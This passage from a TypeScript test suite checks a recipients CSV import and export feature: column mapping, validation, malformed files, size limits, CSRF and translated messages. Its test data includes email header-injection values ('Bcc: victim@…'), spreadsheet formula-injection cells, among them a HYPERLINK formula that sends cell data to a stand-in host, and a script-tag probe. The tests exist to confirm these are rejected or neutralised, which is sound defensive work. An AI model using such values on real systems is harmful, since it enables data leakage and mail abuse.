import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { Readable } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import { asc, eq } from 'drizzle-orm';
import { createUser, ensureAdmin, signedIn, uniqueEmail } from '../../../test/support/accounts.ts';
import type { Agent } from '../../../test/support/agent.ts';
import { createTestApp, type TestApp, testDb } from '../../../test/support/app.ts';
import { recipients } from '../../db/schema.ts';
import { english, translator } from '../../i18n/i18n.ts';
import { type Actor, can, type Role } from '../../permissions.ts';
import { CsvFormatError, exportRecipientsCsv, type ImportReport, importRecipientsCsv } from './recipients.csv.ts';
import type { RecipientView } from './recipients.repository.ts';
import { recipientSchema } from './recipients.schemas.ts';

let t: TestApp;
before(async () => {
  t = await createTestApp({ devMailbox: true });
  await ensureAdmin(t);
});
after(() => t.close());

// ---------------------------------------------------------------------------------------------
// Helpers

/** A real user of the test database, as the actor the service expects. */
async function newActor(role: Role = 'user'): Promise<Actor> {
  const user = await createUser(t.c, { role });
  return { userId: user.id, role: user.role, email: user.email, fullName: user.fullName, via: 'session' };
}

/** The bytes in pieces of `size`, the way a file or an upload arrives (one piece when size is 0). */
function pieces(data: string | Buffer, size = 0): Buffer[] {
  const buffer = Buffer.isBuffer(data) ? data : Buffer.from(data);
  if (size <= 0) return [buffer];
  const out: Buffer[] = [];
  for (let at = 0; at < buffer.length; at += size) out.push(buffer.subarray(at, at + size));
  return out;
}

const importCsv = (actor: Actor, data: string | Buffer, chunkSize = 0) =>
  importRecipientsCsv(t.c.recipients, actor, Readable.from(pieces(data, chunkSize)));

type Stored = { email: string; fullName: string; comment: string };

/** The owner's recipients as stored, by address. */
const stored = (ownerId: number): Promise<Stored[]> =>
  t.c.db
    .select({ email: recipients.email, fullName: recipients.fullName, comment: recipients.comment })
    .from(recipients)
    .where(eq(recipients.ownerId, ownerId))
    .orderBy(asc(recipients.email));

const countOf = (ownerId: number) => t.c.db.$count(recipients, eq(recipients.ownerId, ownerId));

/** Every row read is exactly one of: imported, duplicate, invalid; the lists match their counts. */
function assertAddsUp(report: ImportReport) {
  assert.equal(
    report.imported + report.duplicateCount + report.invalidCount,
    report.rows,
    `imported + duplicates + invalid = rows read: ${JSON.stringify({ ...report, duplicates: undefined, invalid: undefined })}`,
  );
  assert.equal(report.duplicates.length, Math.min(report.duplicateCount, 1000));
  assert.equal(report.invalid.length, Math.min(report.invalidCount, 1000));
}

async function text(stream: Readable): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.isBuffer(chunk) ? chunk : Buffer.from(chunk));
  return Buffer.concat(chunks).toString('utf8');
}

/** What the export would send this actor (owner column when they read everyone's). */
const exportOf = (actor: Actor) =>
  text(exportRecipientsCsv(t.c.recipients.exportRecipients(actor), can(actor, 'recipients:read_all')));

/** CSV text as rows of cells (the BOM dropped), header included. */
const cellsOf = (csv: string): string[][] => parseCsv(csv, { bom: true, relax_column_count: true });

/** Windows-1251 bytes of text made of ASCII and Russian letters (what Excel writes on a Russian Windows). */
function windows1251(value: string): Buffer {
  return Buffer.from(
    [...value].map((c) => {
      const code = c.charCodeAt(0);
      if (code < 0x80) return code;
      if (code >= 0x410 && code <= 0x44f) return code - 0x410 + 0xc0;
      if (c === 'Ё') return 0xa8;
      if (c === 'ё') return 0xb8;
      throw new Error(`no windows-1251 byte for ${c}`);
    }),
  );
}

const view = (values: Partial<RecipientView> & { email: string }): RecipientView => ({
  id: 1,
  ownerId: 1,
  fullName: '',
  comment: '',
  createdAt: new Date(0),
  updatedAt: new Date(0),
  ownerEmail: 'owner@example.com',
  suppressedReason: null,
  ...values,
});

async function* batchesOf(rows: RecipientView[]): AsyncGenerator<RecipientView[]> {
  yield rows;
}

// Multipart by hand: the Agent only speaks urlencoded forms and JSON.
type Part = { name: string; content: string | Buffer; filename?: string; type?: string };

function multipartBody(parts: Part[]) {
  const boundary = `----HeraldTest${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const head = [`--${boundary}`, `Content-Disposition: form-data; name="${part.name}"`];
    if (part.filename !== undefined) {
      head[1] += `; filename="${part.filename}"`;
      head.push(`Content-Type: ${part.type ?? 'text/csv'}`);
    }
    chunks.push(Buffer.from(`${head.join('\r\n')}\r\n\r\n`), Buffer.from(part.content), Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

const cookieHeader = (agent: Agent) => agent.cookieHeader();

/** POST /recipients/import as the browser sends it: the CSRF token in the action URL, the file streamed. */
async function upload(agent: Agent, parts: Part[], options: { csrf?: string | false } = {}) {
  const { payload, contentType } = multipartBody(parts);
  const token = options.csrf === undefined ? await agent.csrfToken() : options.csrf;
  const query = token === false ? '' : `?_csrf=${encodeURIComponent(token)}`;
  return t.app.inject({
    method: 'POST',
    url: `/recipients/import${query}`,
    payload,
    headers: { cookie: cookieHeader(agent), 'content-type': contentType },
  });
}

const csvFile = (content: string | Buffer): Part => ({ name: 'file', filename: 'recipients.csv', content });

/** The visible text of a page, tags removed and whitespace collapsed. */
const pageText = (html: string) =>
  html
    .replace(/<[^>]*>/g, ' ')
    .replace(/&#39;|&apos;/g, "'")
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&')
    .replace(/\s+/g, ' ');

// ---------------------------------------------------------------------------------------------

describe('CSV import: the header', () => {
  test('email,name,comment is mapped; so are other spellings, Russian names, any order, with extra columns ignored', async () => {
    const cases: [string, string][] = [
      ['email,name,comment', 'a@example.com,Ada Lovelace,first'],
      ['E-mail,Full name,Comment', 'a@example.com,Ada Lovelace,first'],
      ['Comment,Full name,E-mail', 'first,Ada Lovelace,a@example.com'],
      [' Email , NAME ,comment', 'a@example.com,Ada Lovelace,first'],
      ['Почта,ФИО,Комментарий', 'a@example.com,Ada Lovelace,first'],
      ['Комментарий,Почта,ФИО', 'first,a@example.com,Ada Lovelace'],
      ['id,ФИО,phone,e-mail,Comment,tags', '17,Ada Lovelace,+44 20 7946 0000,a@example.com,first,"x,y"'],
    ];
    for (const [header, row] of cases) {
      const actor = await newActor();
      const report = await importCsv(actor, `${header}\n${row}\n`);
      assert.deepEqual(
        { rows: report.rows, imported: report.imported, invalid: report.invalid },
        { rows: 1, imported: 1, invalid: [] },
        header,
      );
      assert.deepEqual(
        await stored(actor.userId),
        [{ email: 'a@example.com', fullName: 'Ada Lovelace', comment: 'first' }],
        header,
      );
    }
  });

  test('name and comment are optional columns; short and long rows are tolerated', async () => {
    const actor = await newActor();
    const report = await importCsv(actor, 'email\nonly@example.com\n');
    assert.equal(report.imported, 1);
    assert.deepEqual(await stored(actor.userId), [{ email: 'only@example.com', fullName: '', comment: '' }]);

    const other = await newActor();
    const ragged = await importCsv(other, 'email,name,comment\nshort@example.com\nlong@example.com,Long,note,extra,more\n');
    assert.equal(ragged.imported, 2);
    assert.deepEqual(await stored(other.userId), [
      { email: 'long@example.com', fullName: 'Long', comment: 'note' },
      { email: 'short@example.com', fullName: '', comment: '' },
    ]);
  });

  test('a header without an e-mail column is a CsvFormatError that says what is missing and what was found', async () => {
    for (const header of ['name,comment', 'Name;Email;Comment', 'Почта;ФИО', 'a@example.com,Ada']) {
      const actor = await newActor();
      await assert.rejects(
        importCsv(actor, `${header}\nb@example.com,Bob\n`),
        (error: unknown) => {
          assert.ok(error instanceof CsvFormatError, String(error));
          const message = english(error.message);
          assert.match(message, /header with an e-mail column/);
          assert.ok(message.includes(header.split(',')[0] ?? ''), `the message quotes the header: ${message}`);
          return true;
        },
        header,
      );
      assert.equal(await countOf(actor.userId), 0, header);
    }
  });

  test('an empty file (or only a BOM, or only blank lines) is a CsvFormatError; a header alone imports nothing', async () => {
    const actor = await newActor();
    for (const data of ['', '\uFEFF', '\n\n\n', '\r\n\r\n']) {
      await assert.rejects(importCsv(actor, data), CsvFormatError, JSON.stringify(data));
    }
    await assert.rejects(importCsv(actor, ''), /empty/);
    const report = await importCsv(actor, 'email,name,comment\n');
    assert.deepEqual(report, { rows: 0, imported: 0, duplicates: [], duplicateCount: 0, invalid: [], invalidCount: 0 });
  });
});

describe('CSV import: rows', () => {
  test('invalid rows and duplicates are reported with their line numbers and skipped; the rest is imported', async () => {
    const actor = await newActor();
    await t.c.recipients.createRecipient(actor, { email: 'already@example.com', fullName: 'Already Here' });
    const lines = [
      /* 1 */ 'email,name,comment',
      /* 2 */ 'ok1@example.com,Ok One,first',
      /* 3 */ 'not-an-address,Bad Address,',
      /* 4 */ `long@example.com,${'x'.repeat(201)},`,
      /* 5 */ `longcomment@example.com,Talkative,${'y'.repeat(2001)}`,
      /* 6 */ 'OK1@Example.COM,Same Address Other Case,',
      /* 7 */ 'already@example.com,Already There,',
      /* 8 */ ',No Address,',
      /* 9 */ 'ok2@example.com,"Two, with a comma","said ""hi"""',
      /* 10 */ '',
      /* 11 */ 'ok3@example.com,,',
      /* 12 */ 'bell@example.com,Ding\u0007,',
      /* 13 */ 'ok4@example.com,Ok Four,',
      /* 14 */ '"ok2@example.com",Two Again,',
      // Header injection attempts inside quoted cells: each record spans two lines.
      /* 15 */ '"evil@example.com\r\nBcc: victim@example.com",Injected Address,',
      /* 17 */ 'name-inject@example.com,"Ada\r\nBcc: victim@example.com",',
    ];
    const report = await importCsv(actor, `${lines.join('\n')}\n`);

    const invalidAt = (line: number) => report.invalid.filter((row) => row.line === line).map((row) => row.reason);
    assert.deepEqual(invalidAt(3), ['Enter a valid e-mail address.']);
    assert.deepEqual(invalidAt(4), ['Full name must be at most 200 characters.']);
    assert.deepEqual(invalidAt(5), ['Comment must be at most 2000 characters.']);
    assert.deepEqual(invalidAt(8), ['E-mail is required.']);
    assert.deepEqual(invalidAt(12), ['Full name must be a single line.']);
    const injected = report.invalid.filter((row) => row.line >= 15);
    assert.deepEqual(
      injected.map((row) => row.reason),
      ['Enter a valid e-mail address.', 'Full name must be a single line.'],
      JSON.stringify(report.invalid),
    );
    assert.equal(report.invalidCount, 7);

    // Duplicates within the file are listed as they are read, those already in the list when their batch is written.
    assert.deepEqual(
      report.duplicates.toSorted((a, b) => a.line - b.line),
      [
        { line: 6, email: 'ok1@example.com' },
        { line: 7, email: 'already@example.com' },
        { line: 14, email: 'ok2@example.com' },
      ],
    );
    assert.equal(report.duplicateCount, 3);
    assert.equal(report.rows, 14);
    assert.equal(report.imported, 4);
    assertAddsUp(report);

    assert.deepEqual(await stored(actor.userId), [
      { email: 'already@example.com', fullName: 'Already Here', comment: '' },
      { email: 'ok1@example.com', fullName: 'Ok One', comment: 'first' },
      { email: 'ok2@example.com', fullName: 'Two, with a comma', comment: 'said "hi"' },
      { email: 'ok3@example.com', fullName: '', comment: '' },
      { email: 'ok4@example.com', fullName: 'Ok Four', comment: '' },
    ]);
    for (const row of await stored(actor.userId)) {
      assert.doesNotMatch(`${row.email}${row.fullName}`, /[\r\n]|victim/, 'no injected header reached the list');
    }
  });

  test('values are trimmed, addresses lower-cased, and a neutralising quote before a formula character dropped', async () => {
    const actor = await newActor();
    const report = await importCsv(
      actor,
      [
        'email,name,comment',
        '  Mixed.Case@Example.COM  ,  Padded Name  ,  padded comment  ',
        "'-dash@example.com,'=SUM(A1:A2),'+1 555 0100",
        "plain@example.com,'@handle,'quoted but harmless",
      ].join('\n'),
    );
    assert.equal(report.imported, 3, JSON.stringify(report));
    assert.deepEqual(await stored(actor.userId), [
      { email: '-dash@example.com', fullName: '=SUM(A1:A2)', comment: '+1 555 0100' },
      { email: 'mixed.case@example.com', fullName: 'Padded Name', comment: 'padded comment' },
      { email: 'plain@example.com', fullName: '@handle', comment: "'quoted but harmless" },
    ]);
  });

  test('duplicates are reported across batches, and a second import of the same file imports nothing', async () => {
    const actor = await newActor();
    const rows = Array.from({ length: 2500 }, (_, i) => `p${i % 2000}@batch.example.com,Person ${i}`);
    const first = await importCsv(actor, `email,name\n${rows.join('\n')}\n`);
    assert.deepEqual(
      { rows: first.rows, imported: first.imported, duplicateCount: first.duplicateCount, invalidCount: first.invalidCount },
      { rows: 2500, imported: 2000, duplicateCount: 500, invalidCount: 0 },
    );
    assert.deepEqual(first.duplicates[0], { line: 2002, email: 'p0@batch.example.com' });
    assertAddsUp(first);

    const again = await importCsv(actor, `email,name\n${rows.join('\n')}\n`);
    assert.deepEqual(
      { rows: again.rows, imported: again.imported, duplicateCount: again.duplicateCount },
      { rows: 2500, imported: 0, duplicateCount: 2500 },
    );
    assert.equal(again.duplicates.length, 1000, 'the list is capped; the count is not');
    assert.deepEqual(again.duplicates[0], { line: 2, email: 'p0@batch.example.com' });
    assertAddsUp(again);
    assert.equal(await countOf(actor.userId), 2000);
  });

  test('line numbers stay right after a quoted cell holding CRLF', async () => {
    const actor = await newActor();
    const data = [
      'email,name,comment',
      'first@example.com,First,"two\r\nlines"', // lines 2-3
      'not-an-address,After,', // line 4
    ].join('\r\n');
    const report = await importCsv(actor, `${data}\r\n`);
    assert.deepEqual(report.invalid, [{ line: 4, reason: 'Enter a valid e-mail address.' }]);
  });

  test('a record spanning several lines is reported at the line it starts on', async () => {
    const actor = await newActor();
    const data = ['email,name', '"evil@example.com', 'Bcc: victim@example.com",Mallory', 'ok@example.com,Ok'].join('\n');
    const report = await importCsv(actor, `${data}\n`);
    assert.deepEqual(report.invalid, [{ line: 2, reason: 'Enter a valid e-mail address.' }]);
  });
});

describe('CSV import: malformed files', () => {
  test('a UTF-8 BOM, CRLF line endings, blank lines and quoted commas, quotes and newlines', async () => {
    const actor = await newActor();
    const data = [
      '\uFEFFemail,name,comment',
      'crlf1@example.com,Crlf One,',
      '',
      '   ',
      '"crlf2@example.com","Doe, Jane","She said ""hello"",',
      'then left"',
      '',
      'crlf3@example.com,Ёлка Ёжикова,"multi',
      'line',
      'comment"',
    ].join('\r\n');
    const report = await importCsv(actor, `${data}\r\n\r\n`);
    assert.equal(report.imported, 3, JSON.stringify(report));
    // The line of spaces is a row with an empty address, reported as such.
    assert.deepEqual(report.invalid, [{ line: 4, reason: 'E-mail is required.' }]);
    assertAddsUp(report);
    assert.deepEqual(await stored(actor.userId), [
      { email: 'crlf1@example.com', fullName: 'Crlf One', comment: '' },
      // Line breaks are stored as LF.
      { email: 'crlf2@example.com', fullName: 'Doe, Jane', comment: 'She said "hello",\nthen left' },
      { email: 'crlf3@example.com', fullName: 'Ёлка Ёжикова', comment: 'multi\nline\ncomment' },
    ]);
  });

  test('a file whose bytes arrive one at a time (multi-byte characters split between chunks) reads the same', async () => {
    const actor = await newActor();
    const report = await importCsv(actor, '\uFEFFПочта,ФИО\nsplit@example.com,Ёлка 李 😀\n', 1);
    assert.equal(report.imported, 1, JSON.stringify(report));
    assert.deepEqual(await stored(actor.userId), [{ email: 'split@example.com', fullName: 'Ёлка 李 😀', comment: '' }]);
  });

  test('an unclosed quote: no crash, reported as invalid, the rows before it imported, nothing garbled stored', async () => {
    const actor = await newActor();
    const data = ['email,name', 'before@example.com,Before', 'open@example.com,"Unclosed', 'swallowed@example.com,Lost', ''].join(
      '\n',
    );
    const report = await importCsv(actor, data);
    assert.equal(report.imported, 1);
    assert.equal(report.invalidCount, 1, JSON.stringify(report));
    assert.match(report.invalid[0]?.reason ?? '', /quote/i);
    assert.ok((report.invalid[0]?.line ?? 0) >= 3, 'reported at or after the line the quote opens on');
    assert.deepEqual(await stored(actor.userId), [{ email: 'before@example.com', fullName: 'Before', comment: '' }]);
  });

  test('a stray quote inside an unquoted cell is reported as invalid; the other rows are imported', async () => {
    const actor = await newActor();
    const report = await importCsv(actor, 'email,name\nq1@example.com,5" floppy\nq2@example.com,Fine\n');
    assert.equal(report.invalidCount, 1, JSON.stringify(report));
    assert.equal(report.invalid[0]?.line, 2);
    assert.deepEqual(
      (await stored(actor.userId)).map((row) => row.email),
      ['q2@example.com'],
    );
  });

  test('rows the CSV parser skips are counted as rows read, so the report adds up', async () => {
    const actor = await newActor();
    const report = await importCsv(actor, 'email,name\nq1@example.com,5" floppy\nq2@example.com,Fine\n');
    assertAddsUp(report);
  });

  test('a 10 MB line: no crash, memory bounded, nothing of it stored, the rows before it imported', async () => {
    const actor = await newActor();
    const huge = 'x'.repeat(10 * 1024 * 1024);
    const data = `email,name\nbefore@example.com,Before\nhuge@example.com,${huge}\nafter@example.com,After\n`;
    const heapBefore = process.memoryUsage().heapUsed;
    let report: ImportReport | null = null;
    try {
      report = await importCsv(actor, data, 64 * 1024);
    } catch (error) {
      assert.ok(error instanceof CsvFormatError, String(error));
    }
    const grown = (process.memoryUsage().heapUsed - heapBefore) / 1024 / 1024;
    console.log(`[csv] 10 MB line: heap grew by ${grown.toFixed(1)} MB while importing`);
    if (report) {
      assert.ok(report.invalidCount >= 1);
      assert.ok(
        report.invalid.every((row) => row.line === 3),
        `the long line is the invalid one: ${JSON.stringify(report.invalid.slice(0, 3))}`,
      );
    }
    const rows = await stored(actor.userId);
    assert.ok(!rows.some((row) => row.email === 'huge@example.com' || row.fullName.startsWith('xxx')), 'nothing of it stored');
    if (report) assert.ok(rows.some((row) => row.email === 'before@example.com'));

    // A file that is one 10 MB line has no header to find.
    await assert.rejects(importCsv(actor, huge, 64 * 1024), CsvFormatError);
  });

  test('a 10 MB line stops the import with a clear message naming the line; nothing after it is imported', async () => {
    const actor = await newActor();
    const data = `email,name\nbefore@example.com,Before\nhuge@example.com,${'x'.repeat(10 * 1024 * 1024)}\nafter@example.com,After\n`;
    await assert.rejects(importCsv(actor, data, 64 * 1024), (error: Error) => {
      assert.ok(error instanceof CsvFormatError);
      assert.match(english(error.message), /Line 3 is longer than 64 KB/);
      return true;
    });
    assert.deepEqual(await stored(actor.userId), [], 'the rows before it were still in an unwritten batch');
  });

  test('an input that fails midway (the client went away) fails the import instead of leaving it pending', async () => {
    const actor = await newActor();
    async function* failing() {
      yield Buffer.from('email\nfirst@example.com\n');
      throw new Error('client went away');
    }
    const input = Readable.from(failing());
    input.on('error', () => {}); // @fastify/multipart listens to its file stream the same way
    const outcome = await Promise.race([
      importRecipientsCsv(t.c.recipients, actor, input).then(
        () => 'finished',
        (error: Error) => `failed: ${error.message}`,
      ),
      new Promise((resolve) => setTimeout(resolve, 2000, 'still pending after 2 s')),
    ]);
    assert.equal(outcome, 'failed: client went away');
  });

  test('Windows-1251 bytes are reported as invalid rows (save as UTF-8), never imported as garbage', async () => {
    const actor = await newActor();
    const data = Buffer.concat([
      windows1251('email,name,comment\n'),
      windows1251('ivan@example.com,Иван Петров,\n'),
      windows1251('olga@example.com,Olga,Постоянный клиент\n'),
      windows1251('ascii@example.com,Plain Ascii,\n'),
    ]);
    const report = await importCsv(actor, data);
    assert.equal(report.imported, 1, JSON.stringify(report));
    assert.deepEqual(
      report.invalid.map((row) => row.line),
      [2, 3],
    );
    for (const row of report.invalid) assert.match(row.reason, /UTF-8/);
    assertAddsUp(report);
    const rows = await stored(actor.userId);
    assert.deepEqual(rows, [{ email: 'ascii@example.com', fullName: 'Plain Ascii', comment: '' }]);

    // A Windows-1251 header does not name any known column.
    await assert.rejects(importCsv(actor, windows1251('Почта,ФИО\nx@example.com,Икс\n')), CsvFormatError);
  });
});

describe('CSV export', () => {
  test('header email,name,comment (plus owner); formula characters neutralised with a leading quote', async () => {
    const hostile = [
      view({ email: '-dash@example.com', fullName: '=SUM(A1:A9)', comment: '+1 555 0100' }),
      view({ email: 'at@example.com', fullName: '@handle', comment: '-- note' }),
      view({ email: 'tab@example.com', fullName: '\tTabbed', comment: '\rCarriage' }),
      view({
        email: 'safe@example.com',
        fullName: 'Safe, Name',
        comment: 'says "hi"\nand 1+1=2',
        ownerEmail: '+owner@example.com',
      }),
      view({ email: '+plus@example.com', fullName: 'O\u2019Brien', comment: '' }),
    ];
    const plain = cellsOf(await text(exportRecipientsCsv(batchesOf(hostile), false)));
    assert.deepEqual(plain, [
      ['email', 'name', 'comment'],
      ["'-dash@example.com", "'=SUM(A1:A9)", "'+1 555 0100"],
      ['at@example.com', "'@handle", "'-- note"],
      ['tab@example.com', "'\tTabbed", "'\rCarriage"],
      ['safe@example.com', 'Safe, Name', 'says "hi"\nand 1+1=2'],
      ["'+plus@example.com", 'O\u2019Brien', ''],
    ]);
    const withOwner = cellsOf(await text(exportRecipientsCsv(batchesOf(hostile), true)));
    assert.deepEqual(withOwner[0], ['email', 'name', 'comment', 'owner']);
    assert.deepEqual(
      withOwner.slice(1).map((row) => row[3]),
      ['owner@example.com', 'owner@example.com', 'owner@example.com', "'+owner@example.com", 'owner@example.com'],
    );
    for (const row of [...plain, ...withOwner]) {
      for (const cell of row)
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${JSON.stringify(cell)}`);
    }
    const empty = await text(exportRecipientsCsv(batchesOf([]), false));
    assert.equal(empty.replace(/^\uFEFF/, ''), 'email,name,comment\n');
  });

  test('1,000 rows, hostile ones included, export and re-import into another user exactly', async () => {
    const source = await newActor();
    const target = await newActor();
    const names = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+1+1',
      '-2',
      '@SUM(1)',
      'Quote "inside"',
      'Comma, Inc.',
      'back\\slash \\"',
      '{braces},{}',
      'NULL',
      'Ёлка Ёжикова',
      '李小龍',
      '😀 emoji',
      '<script>alert(1)</script>',
      "O'Brien",
      "'plain leading quote",
      '',
    ];
    const comments = [
      '=1+2',
      'multi\nline',
      'windows\r\nline\r\nbreaks',
      '"quoted"',
      ',comma,',
      '-- dash',
      '@at',
      '+plus',
      '',
      'a,b\n"c"\r\nd',
      'NULL',
      '\\N',
    ];
    const emails = (i: number) =>
      [`r${i}@example.com`, `-r${i}@example.com`, `+r${i}@example.com`, `o'brien${i}@example.com`, `R${i}.Upper@Example.com`][
        i % 5
      ];
    const rows = Array.from({ length: 1000 }, (_, i) =>
      recipientSchema.parse({ email: emails(i), fullName: names[i % names.length], comment: comments[i % comments.length] }),
    );
    for (let at = 0; at < rows.length; at += 250) await t.c.recipients.insertBatch(source, rows.slice(at, at + 250));
    assert.equal(await countOf(source.userId), 1000);

    const csv = await exportOf(source);
    const cells = cellsOf(csv);
    assert.deepEqual(cells[0], ['email', 'name', 'comment']);
    assert.equal(cells.length, 1001);
    for (const row of cells) {
      for (const cell of row)
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${JSON.stringify(cell)}`);
    }

    const report = await importCsv(target, csv, 4096);
    assert.deepEqual(
      { rows: report.rows, imported: report.imported, duplicates: report.duplicateCount, invalid: report.invalid },
      { rows: 1000, imported: 1000, duplicates: 0, invalid: [] },
    );
    assert.deepEqual(await stored(target.userId), await stored(source.userId));
  });

  test('a value that itself starts with a quote and a formula character survives the round trip', async () => {
    const source = await newActor();
    const target = await newActor();
    await t.c.recipients.insertBatch(source, [
      recipientSchema.parse({ email: "'-quote@example.com", fullName: "'=not a formula", comment: "'+44" }),
    ]);
    await importCsv(target, await exportOf(source));
    assert.deepEqual(await stored(target.userId), await stored(source.userId));
  });
});

describe('CSV import and export over HTTP', () => {
  test('an upload shows the report page with the numbers and the lines', async () => {
    const { user, agent } = await signedIn(t);
    const response = await upload(agent, [
      csvFile(
        'email,name,comment\nweb1@example.com,Web One,\nnot-an-address,Bad,\nweb2@example.com,Web Two,\nWEB1@example.com,Dup,\n',
      ),
    ]);
    assert.equal(response.statusCode, 200, response.body);
    assert.match(response.headers['content-type'] as string, /^text\/html/);
    const page = pageText(response.body);
    assert.match(page, /Import finished/);
    assert.match(page, /4 rows read: 2 imported , 1 duplicate skipped, 1 invalid row skipped\./);
    assert.match(page, /Line 3: Enter a valid e-mail address\./);
    assert.match(page, /Line 5: web1@example\.com/);
    assert.deepEqual(
      (await stored(user.id)).map((row) => row.email),
      ['web1@example.com', 'web2@example.com'],
    );
  });

  test('a Russian reader gets the import page, the report (in plural forms) and its reasons in Russian', async () => {
    const { user, agent } = await signedIn(t);
    assert.equal((await agent.post('/profile/edit', { fullName: 'Тест', timeZone: 'UTC', language: 'ru' })).statusCode, 303);
    const form = pageText((await agent.get('/recipients/import')).body);
    assert.match(form, /Импорт получателей из CSV/);
    assert.match(form, /Первая строка — заголовок с названиями столбцов: email \(обязательный\), name и comment ?\./);
    assert.doesNotMatch(form, /Import recipients|The first line|CSV file/);

    const rows = [
      'email,name',
      'ru1@example.com,Раз',
      'ru2@example.com,Два',
      'RU1@example.com,Повтор',
      'ru3@example.com,"Без',
      '',
    ];
    const response = await upload(agent, [csvFile(rows.join('\n'))]);
    assert.equal(response.statusCode, 200, response.body);
    const page = pageText(response.body);
    assert.match(page, /Импорт завершён/);
    assert.match(page, /Прочитаны 4 строки: 2 импортированы , 1 повтор пропущен, 1 неверная строка пропущена\./);
    assert.match(page, /Неверные строки Строка \d: Ошибка в CSV: открытая кавычка не закрыта\./);
    assert.match(page, /Повторы Строка 4: ru1@example\.com/);
    assert.doesNotMatch(page, /rows read|imported|Malformed|Line \d/);

    for (const [content, reason] of [
      ['', /Файл пуст: нужна строка заголовка со столбцом адреса электронной почты\./],
      [
        'Name;Email\nAda;a@example.com\n',
        /Первая строка должна быть заголовком .*\(одно из названий: email, e-mail, mail\); найдено: Name;Email\./,
      ],
    ] as const) {
      const refused = await upload(agent, [csvFile(content)]);
      assert.equal(refused.statusCode, 422);
      assert.match(pageText(refused.body), reason);
    }
    assert.match(pageText((await upload(agent, [{ name: 'note', content: 'no file' }])).body), /Выберите файл CSV для импорта\./);
    assert.deepEqual(
      (await stored(user.id)).map((row) => row.email),
      ['ru1@example.com', 'ru2@example.com'],
    );
  });

  test('import errors are messages each reader translates: the report and a CsvFormatError read in English or Russian', async () => {
    const actor = await newActor();
    const report = await importCsv(actor, 'email,name\nq1@example.com,5" floppy\nbad-address,Bad\nx@example.com,"open\n');
    const reasons = (language: 'en' | 'ru') => report.invalid.map((row) => translator(language)(row.reason)).sort();
    assert.deepEqual(reasons('en'), [
      'Enter a valid e-mail address.',
      'Malformed CSV: a quote inside an unquoted cell; quote the whole cell and double the quote.',
      'Malformed CSV: a quote is opened and never closed.',
    ]);
    assert.deepEqual(
      reasons('ru').filter((reason) => reason.startsWith('Ошибка в CSV')),
      [
        'Ошибка в CSV: кавычка внутри ячейки без кавычек; заключите ячейку в кавычки, а кавычку внутри удвойте.',
        'Ошибка в CSV: открытая кавычка не закрыта.',
      ],
    );
    const huge = `email\nfirst@example.com\n${'x'.repeat(100 * 1024)}\n`;
    await assert.rejects(importCsv(actor, huge, 16 * 1024), (error: Error) => {
      assert.ok(error instanceof CsvFormatError);
      assert.equal(
        translator('ru')(error.message),
        'Строка 3 длиннее 64 КБ; это не похоже на файл с получателями. Импорт остановлен на ней (до неё импортировано строк: 0).',
      );
      return true;
    });
  });

  test('names in an uploaded file are shown escaped in the report, never as markup', async () => {
    const { agent } = await signedIn(t);
    const response = await upload(agent, [csvFile('email,name\n<script>alert(1)</script>@example.com,x\n')]);
    assert.equal(response.statusCode, 200);
    assert.doesNotMatch(response.body, /<script>alert/);
  });

  test('a file that is not a recipients CSV gets 422 with the reason, and imports nothing', async () => {
    const { user, agent } = await signedIn(t);
    for (const content of ['', 'Name;Email\nAda;a@example.com\n']) {
      const response = await upload(agent, [csvFile(content)]);
      assert.equal(response.statusCode, 422, JSON.stringify(content));
      assert.match(pageText(response.body), /empty|e-mail column/);
    }
    assert.equal(await countOf(user.id), 0);
  });

  test('a file over the 50 MB limit gets 413 and imports nothing, not even the row the limit cut in half', async () => {
    const { user, agent } = await signedIn(t);
    const limit = 50 * 1024 * 1024;
    const head = 'email,comment\n';
    const row = `dup@example.com,${'c'.repeat(1000 - 'dup@example.com,\n'.length)}\n`;
    const rows = Math.floor((limit - head.length - 'cut@example.com'.length) / row.length);
    const padding = limit - head.length - 'cut@example.com'.length - rows * row.length - 'pad@example.com,\n'.length;
    // The limit falls right after "cut@example.com" of the address cut@example.community.
    const content = `${head}${row.repeat(rows)}pad@example.com,${'p'.repeat(padding)}\ncut@example.community,Cut off\n`;
    assert.equal(content.indexOf('munity'), limit);
    const response = await upload(agent, [csvFile(content)]);
    assert.equal(response.statusCode, 413);
    assert.deepEqual(
      (await stored(user.id)).map((r) => r.email),
      [],
    );
  });

  test('without the CSRF token (or with a wrong one): 403 and nothing imported', async () => {
    const { user, agent } = await signedIn(t);
    const file = csvFile('email\ncsrf@example.com\n');
    assert.equal((await upload(agent, [file], { csrf: false })).statusCode, 403);
    assert.equal((await upload(agent, [file], { csrf: 'forged-token' })).statusCode, 403);
    // The token in a form field does not count: the multipart body is never parsed for it.
    assert.equal(
      (await upload(agent, [{ name: '_csrf', content: await agent.csrfToken() }, file], { csrf: false })).statusCode,
      403,
    );
    assert.equal(await countOf(user.id), 0);
  });

  test('not multipart: 415; no file part: 422; signed out: no import', async () => {
    const { user, agent } = await signedIn(t);
    assert.equal((await agent.post('/recipients/import', { file: 'email\nform@example.com\n' })).statusCode, 415);
    const raw = await t.app.inject({
      method: 'POST',
      url: '/recipients/import',
      payload: 'email\nraw@example.com\n',
      headers: { cookie: cookieHeader(agent), 'content-type': 'text/csv', 'x-csrf-token': await agent.csrfToken() },
    });
    assert.equal(raw.statusCode, 415);

    const noFile = await upload(agent, [{ name: 'note', content: 'no file here' }]);
    assert.equal(noFile.statusCode, 422);
    assert.match(pageText(noFile.body), /Choose a CSV file/);
    assert.equal(await countOf(user.id), 0);

    const anonymous = await t.app.inject({
      method: 'POST',
      url: '/recipients/import',
      ...multipartBody([csvFile('email\nanon@example.com\n')]),
    });
    assert.notEqual(anonymous.statusCode, 200);
    assert.equal(await t.c.db.$count(recipients, eq(recipients.email, 'anon@example.com')), 0);
  });

